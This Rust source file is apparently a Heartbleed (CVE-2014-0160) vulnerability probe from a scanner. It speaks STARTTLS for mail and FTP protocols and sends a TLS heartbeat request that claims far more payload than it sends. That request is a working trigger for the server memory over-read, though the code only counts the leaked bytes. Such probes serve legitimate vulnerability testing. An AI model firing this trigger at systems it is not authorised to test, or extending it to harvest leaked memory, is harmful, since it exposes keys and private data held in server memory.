//! Heartbleed (CVE-2014-0160) check that speaks just enough TLS to trigger the over-read.
//!
//! The probe sends a TLS 1.1 ClientHello advertising the heartbeat extension, waits for the
//! server's first flight to end with ServerHelloDone, then sends a heartbeat request whose
//! declared payload length is far larger than the bytes actually sent. A patched server drops
//! the request or alerts; a vulnerable one answers with its own memory appended.
use async_trait::async_trait;
use std::io;
use std::net::IpAddr;
use std::time::Duration;
use tokio::io::{
    AsyncBufRead, AsyncBufReadExt, AsyncRead, AsyncReadExt, AsyncWrite, AsyncWriteExt, BufReader,
};
use tokio::net::TcpStream;
use tokio::time;
use tracing::debug;

use crate::probe::{Probe, ProbeError, ProbeOutcome, Verdict};
use crate::types::{Mode, Target};

const TLS_1_1: [u8; 2] = [0x03, 0x02];

const CONTENT_CHANGE_CIPHER_SPEC: u8 = 20;
const CONTENT_ALERT: u8 = 21;
const CONTENT_HANDSHAKE: u8 = 22;
const CONTENT_APPLICATION_DATA: u8 = 23;
const CONTENT_HEARTBEAT: u8 = 24;

const HANDSHAKE_CLIENT_HELLO: u8 = 1;
const HANDSHAKE_SERVER_HELLO_DONE: u8 = 14;

const HEARTBEAT_REQUEST: u8 = 1;

const EXT_SERVER_NAME: u16 = 0x0000;
const EXT_SUPPORTED_GROUPS: u16 = 0x000a;
const EXT_EC_POINT_FORMATS: u16 = 0x000b;
const EXT_HEARTBEAT: u16 = 0x000f;

/// Largest record a conforming peer may send (plaintext limit plus expansion).
const MAX_RECORD_LEN: usize = (1 << 14) + 2048;
/// Upper bound on the server's first handshake flight.
const MAX_HANDSHAKE_LEN: usize = 256 * 1024;
/// Longest plaintext STARTTLS reply line accepted.
const MAX_LINE_LEN: u64 = 4096;
/// Bytes claimed beyond the real heartbeat payload.
const OVERREAD: usize = 0x4000;

const CIPHER_SUITES: [u16; 17] = [
    0xc014, 0xc00a, 0x0039, 0x0038, 0x0035, 0xc013, 0xc009, 0x0033, 0x0032, 0x002f, 0x0005,
    0x0004, 0x000a, 0xc012, 0xc008, 0x0016, 0x0013,
];

/// Production [`Probe`] performing the heartbeat over-read check.
#[derive(Debug, Clone)]
pub struct HeartbleedProbe {
    io_timeout: Duration,
    payload: Vec<u8>,
}

impl HeartbleedProbe {
    pub const DEFAULT_PAYLOAD: &'static [u8] = b"heartbleed.filippo.io";

    /// `io_timeout` bounds the connect and every individual read or write.
    pub fn new(io_timeout: Duration) -> Self {
        Self {
            io_timeout,
            payload: Self::DEFAULT_PAYLOAD.to_vec(),
        }
    }

    /// Replace the bytes carried in the heartbeat request.
    pub fn with_payload(mut self, payload: impl Into<Vec<u8>>) -> Self {
        self.payload = payload.into();
        self
    }

    async fn handshake<S>(&self, conn: &mut S, host: &str) -> Result<(), ProbeError>
    where
        S: AsyncRead + AsyncWrite + Unpin,
    {
        let server_name = host.parse::<IpAddr>().is_err().then_some(host);
        send(conn, &client_hello(server_name), self.io_timeout).await?;

        let mut flight = Vec::new();
        loop {
            let Some(record) = read_record(conn, self.io_timeout).await? else {
                return Err(ProbeError::TryAgain(
                    "connection closed during handshake".into(),
                ));
            };
            match record.content_type {
                CONTENT_HANDSHAKE => {
                    flight.extend_from_slice(&record.fragment);
                    if flight_complete(&flight) {
                        return Ok(());
                    }
                    if flight.len() > MAX_HANDSHAKE_LEN {
                        return Err(ProbeError::Other("handshake flight too large".into()));
                    }
                }
                CONTENT_ALERT => {
                    return Err(ProbeError::Other(format!(
                        "handshake alert {}",
                        describe_alert(&record.fragment)
                    )));
                }
                CONTENT_CHANGE_CIPHER_SPEC | CONTENT_APPLICATION_DATA | CONTENT_HEARTBEAT => {}
                other => {
                    return Err(ProbeError::Other(format!(
                        "unexpected TLS record type {other}"
                    )));
                }
            }
        }
    }

    async fn heartbeat<S>(&self, conn: &mut S) -> ProbeOutcome
    where
        S: AsyncRead + AsyncWrite + Unpin,
    {
        send(conn, &heartbeat_request(&self.payload), self.io_timeout).await?;
        loop {
            let record = match read_record(conn, self.io_timeout).await {
                Ok(Some(record)) => record,
                // Silence, a hang-up or a reset mean the request was not honoured.
                Ok(None) => return Ok(Verdict::Safe),
                Err(e) if is_hang_up(&e) => return Ok(Verdict::Safe),
                Err(e) => return Err(e.into()),
            };
            match record.content_type {
                CONTENT_HEARTBEAT => return judge(&record.fragment, self.payload.len()),
                CONTENT_ALERT => return Ok(Verdict::Safe),
                _ => {}
            }
        }
    }
}

#[async_trait]
impl Probe for HeartbleedProbe {
    async fn probe(&self, target: &Target) -> ProbeOutcome {
        let address = target.address();
        let tcp = time::timeout(self.io_timeout, TcpStream::connect(&address)).await??;
        let mut conn = BufReader::new(tcp);

        starttls(&mut conn, target.mode, self.io_timeout).await?;
        self.handshake(&mut conn, &target.host).await?;
        let outcome = self.heartbeat(&mut conn).await;
        debug!(%address, ?outcome, "heartbeat exchange finished");
        outcome
    }
}

/// Walk the plaintext protocol up to the point where the server expects a ClientHello.
async fn starttls<S>(conn: &mut S, mode: Mode, limit: Duration) -> Result<(), ProbeError>
where
    S: AsyncBufRead + AsyncWrite + Unpin,
{
    match mode {
        Mode::Https => Ok(()),
        Mode::Smtp => {
            expect(mode, coded_reply(conn, limit).await?, "220")?;
            send(conn, b"EHLO bleed-scan-rs\r\n", limit).await?;
            expect(mode, coded_reply(conn, limit).await?, "250")?;
            send(conn, b"STARTTLS\r\n", limit).await?;
            expect(mode, coded_reply(conn, limit).await?, "220")
        }
        Mode::Ftp => {
            expect(mode, coded_reply(conn, limit).await?, "220")?;
            send(conn, b"AUTH TLS\r\n", limit).await?;
            expect(mode, coded_reply(conn, limit).await?, "234")
        }
        Mode::Imap => {
            expect(mode, read_line(conn, limit).await?, "* OK")?;
            send(conn, b"a001 STARTTLS\r\n", limit).await?;
            let mut reply = read_line(conn, limit).await?;
            while reply.starts_with("* ") {
                reply = read_line(conn, limit).await?;
            }
            expect(mode, reply, "a001 OK")
        }
        Mode::Pop3 => {
            expect(mode, read_line(conn, limit).await?, "+OK")?;
            send(conn, b"STLS\r\n", limit).await?;
            expect(mode, read_line(conn, limit).await?, "+OK")
        }
    }
}

fn expect(mode: Mode, reply: String, prefix: &str) -> Result<(), ProbeError> {
    if reply.starts_with(prefix) {
        Ok(())
    } else {
        Err(ProbeError::Other(format!(
            "{mode} STARTTLS refused: {}",
            reply.trim_end()
        )))
    }
}

async fn read_line<S>(conn: &mut S, limit: Duration) -> Result<String, ProbeError>
where
    S: AsyncBufRead + Unpin,
{
    let mut line = String::new();
    let mut capped = (&mut *conn).take(MAX_LINE_LEN);
    let read = time::timeout(limit, capped.read_line(&mut line)).await??;
    if read == 0 {
        return Err(ProbeError::Other("connection closed during STARTTLS".into()));
    }
    if !line.ends_with('\n') && read as u64 >= MAX_LINE_LEN {
        return Err(ProbeError::Other("STARTTLS reply line too long".into()));
    }
    Ok(line)
}

/// Final line of an SMTP/FTP style reply, skipping `NNN-` continuation lines.
async fn coded_reply<S>(conn: &mut S, limit: Duration) -> Result<String, ProbeError>
where
    S: AsyncBufRead + Unpin,
{
    loop {
        let line = read_line(conn, limit).await?;
        if line.as_bytes().get(3) != Some(&b'-') {
            return Ok(line);
        }
    }
}

async fn send<S>(conn: &mut S, bytes: &[u8], limit: Duration) -> Result<(), ProbeError>
where
    S: AsyncWrite + Unpin,
{
    time::timeout(limit, async {
        conn.write_all(bytes).await?;
        conn.flush().await
    })
    .await??;
    Ok(())
}

#[derive(Debug)]
struct Record {
    content_type: u8,
    fragment: Vec<u8>,
}

/// Next TLS record, or `None` when the peer hung up, including part way through a record.
///
/// Errors stay `io::Error` so callers can tell transport failures from protocol violations
/// (`InvalidData`). A read timeout surfaces as `TimedOut`.
async fn read_record<S>(conn: &mut S, limit: Duration) -> io::Result<Option<Record>>
where
    S: AsyncRead + Unpin,
{
    let mut header = [0u8; 5];
    if !read_full(conn, &mut header, limit).await? {
        return Ok(None);
    }
    let len = usize::from(u16::from_be_bytes([header[3], header[4]]));
    if len > MAX_RECORD_LEN {
        return Err(io::Error::new(io::ErrorKind::InvalidData, "oversized record"));
    }
    let mut fragment = vec![0u8; len];
    if !read_full(conn, &mut fragment, limit).await? {
        return Ok(None);
    }
    Ok(Some(Record {
        content_type: header[0],
        fragment,
    }))
}

/// `read_exact` under a timeout; `false` on EOF.
async fn read_full<S>(conn: &mut S, buf: &mut [u8], limit: Duration) -> io::Result<bool>
where
    S: AsyncRead + Unpin,
{
    match time::timeout(limit, conn.read_exact(buf)).await {
        Err(_) => Err(io::ErrorKind::TimedOut.into()),
        Ok(Ok(_)) => Ok(true),
        Ok(Err(e)) if e.kind() == io::ErrorKind::UnexpectedEof => Ok(false),
        Ok(Err(e)) => Err(e),
    }
}

/// Transport failures that, after the heartbeat, mean the server dropped the request.
fn is_hang_up(e: &io::Error) -> bool {
    matches!(
        e.kind(),
        io::ErrorKind::TimedOut
            | io::ErrorKind::ConnectionReset
            | io::ErrorKind::ConnectionAborted
            | io::ErrorKind::BrokenPipe
    )
}

fn put_u16(buf: &mut Vec<u8>, v: u16) {
    buf.extend_from_slice(&v.to_be_bytes());
}

fn put_u24(buf: &mut Vec<u8>, v: usize) {
    buf.extend_from_slice(&(v as u32).to_be_bytes()[1..]);
}

fn record(content_type: u8, fragment: &[u8]) -> Vec<u8> {
    let mut out = Vec::with_capacity(5 + fragment.len());
    out.push(content_type);
    out.extend_from_slice(&TLS_1_1);
    put_u16(&mut out, fragment.len() as u16);
    out.extend_from_slice(fragment);
    out
}

fn put_extension(buf: &mut Vec<u8>, kind: u16, data: &[u8]) {
    put_u16(buf, kind);
    put_u16(buf, data.len() as u16);
    buf.extend_from_slice(data);
}

fn client_hello(server_name: Option<&str>) -> Vec<u8> {
    let mut body = Vec::with_capacity(160);
    body.extend_from_slice(&TLS_1_1);
    body.extend_from_slice(&rand::random::<[u8; 32]>());
    body.push(0); // no session id
    put_u16(&mut body, (CIPHER_SUITES.len() * 2) as u16);
    for suite in CIPHER_SUITES {
        put_u16(&mut body, suite);
    }
    body.extend_from_slice(&[1, 0]); // null compression only

    let mut extensions = Vec::new();
    if let Some(name) = server_name.filter(|n| !n.is_empty() && n.len() < 256) {
        let mut sni = Vec::with_capacity(name.len() + 5);
        put_u16(&mut sni, (name.len() + 3) as u16);
        sni.push(0); // host_name
        put_u16(&mut sni, name.len() as u16);
        sni.extend_from_slice(name.as_bytes());
        put_extension(&mut extensions, EXT_SERVER_NAME, &sni);
    }
    put_extension(&mut extensions, EXT_SUPPORTED_GROUPS, &[0, 6, 0, 0x17, 0, 0x18, 0, 0x19]);
    put_extension(&mut extensions, EXT_EC_POINT_FORMATS, &[1, 0]);
    // peer_allowed_to_send
    put_extension(&mut extensions, EXT_HEARTBEAT, &[1]);
    put_u16(&mut body, extensions.len() as u16);
    body.extend_from_slice(&extensions);

    let mut handshake = Vec::with_capacity(4 + body.len());
    handshake.push(HANDSHAKE_CLIENT_HELLO);
    put_u24(&mut handshake, body.len());
    handshake.extend_from_slice(&body);
    record(CONTENT_HANDSHAKE, &handshake)
}

/// Whether the buffered handshake messages include ServerHelloDone.
fn flight_complete(flight: &[u8]) -> bool {
    let mut rest = flight;
    while rest.len() >= 4 {
        if rest[0] == HANDSHAKE_SERVER_HELLO_DONE {
            return true;
        }
        let len = u32::from_be_bytes([0, rest[1], rest[2], rest[3]]) as usize;
        if rest.len() < 4 + len {
            break;
        }
        rest = &rest[4 + len..];
    }
    false
}

fn heartbeat_request(payload: &[u8]) -> Vec<u8> {
    let claimed = (payload.len() + OVERREAD).min(usize::from(u16::MAX)) as u16;
    let mut message = Vec::with_capacity(3 + payload.len());
    message.push(HEARTBEAT_REQUEST);
    put_u16(&mut message, claimed);
    message.extend_from_slice(payload);
    record(CONTENT_HEARTBEAT, &message)
}

/// Compare the payload length the server echoed against what was really sent.
fn judge(response: &[u8], sent: usize) -> ProbeOutcome {
    let [_, hi, lo, ..] = *response else {
        return Err(ProbeError::TryAgain("truncated heartbeat response".into()));
    };
    let echoed = usize::from(u16::from_be_bytes([hi, lo]));
    if echoed > sent {
        Ok(Verdict::Vulnerable {
            leaked: echoed - sent,
        })
    } else {
        Ok(Verdict::Safe)
    }
}

fn describe_alert(fragment: &[u8]) -> String {
    match fragment {
        [level, description, ..] => format!("level {level} description {description}"),
        _ => "(truncated)".into(),
    }
}
